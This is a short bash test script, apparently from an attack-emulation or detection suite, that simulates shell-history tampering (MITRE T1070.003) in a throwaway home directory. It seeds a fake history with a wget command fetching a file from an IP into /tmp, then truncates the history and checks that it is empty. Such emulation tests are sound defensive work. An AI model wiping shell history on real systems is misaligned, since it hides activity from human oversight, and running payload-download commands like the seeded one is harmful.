#!/usr/bin/env bash
# History tampering: `truncate -s 0 ~/.bash_history` (throwaway HOME).
. "$(dirname "$0")/../lib.sh"
scn_begin evade-history-truncate T1070.003
scn_fake_home
printf 'wget http://198.51.100.2/a -O /tmp/a\n' >"$SCN_HOME/.bash_history"
scn_run_key truncate -s 0 "$SCN_HOME/.bash_history"
[ ! -s "$SCN_HOME/.bash_history" ] || scn_fail "the history file was not truncated"
